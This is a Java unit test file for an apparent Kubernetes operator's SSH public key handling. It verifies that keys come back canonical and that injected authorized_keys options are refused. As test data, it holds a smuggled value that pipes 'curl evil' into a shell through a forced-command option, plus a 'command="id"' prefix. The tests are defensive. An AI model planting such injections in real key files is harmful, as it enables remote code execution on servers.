package io.ecslogon.operator.logonuser;

import io.ecslogon.operator.convergence.NotApplied;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ecslogon.operator.api.v1alpha1.KeyPair;
import io.ecslogon.operator.api.v1alpha1.KeyPairStatus;
import io.ecslogon.operator.api.v1alpha1.PreviousPublicKey;
import io.ecslogon.operator.keypair.material.SshKeyGenerator;
import io.ecslogon.operator.keypair.material.SshKeyType;
import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import java.security.SecureRandom;
import java.util.List;
import org.junit.jupiter.api.Test;

class KeyPairKeysTest {
  private static final SshKeyGenerator GENERATOR = new SshKeyGenerator(new SecureRandom());
  private static final String CURRENT = GENERATOR.generate(SshKeyType.ED25519, 256, "x", null).publicKey().canonical();
  private static final String PREVIOUS = GENERATOR.generate(SshKeyType.ED25519, 256, "x", null).publicKey().canonical();

  @Test
  void currentAndPreviousKeysComeBackCanonical() {
    assertThat(KeyPairKeys.of(keyPair(CURRENT + " a comment", PREVIOUS))).containsExactly(CURRENT, PREVIOUS);
  }

  @Test
  void aStatusPatchedWithANewlineAndOptionsInjectsNothing() {
    String injected = CURRENT + "\nrestrict,command=\"curl evil|sh\" " + PREVIOUS;

    assertThatThrownBy(() -> KeyPairKeys.of(keyPair(injected, null)))
        .isInstanceOfSatisfying(NotApplied.class, e -> assertThat(e.reason()).isEqualTo("InvalidKeyPairKey"))
        .hasMessageContaining("KeyPair deploy status.publicKey refused")
        .hasMessageContaining("several lines")
        .hasMessageNotContaining("curl");
  }

  @Test
  void aPreviousKeyWithOptionsInFrontIsRefusedToo() {
    assertThatThrownBy(() -> KeyPairKeys.of(keyPair(CURRENT, "command=\"id\" " + PREVIOUS)))
        .isInstanceOf(NotApplied.class)
        .hasMessageContaining("status.previousPublicKeys refused")
        .hasMessageContaining("options in front of the key");
  }

  private static KeyPair keyPair(String publicKey, String previous) {
    KeyPair keyPair = new KeyPair();
    keyPair.setMetadata(new ObjectMetaBuilder().withName("deploy").withNamespace("default").build());
    KeyPairStatus status = new KeyPairStatus();
    status.setPublicKey(publicKey);
    if (previous != null) {
      PreviousPublicKey old = new PreviousPublicKey();
      old.setPublicKey(previous);
      status.setPreviousPublicKeys(List.of(old));
    }
    keyPair.setStatus(status);
    return keyPair;
  }
}
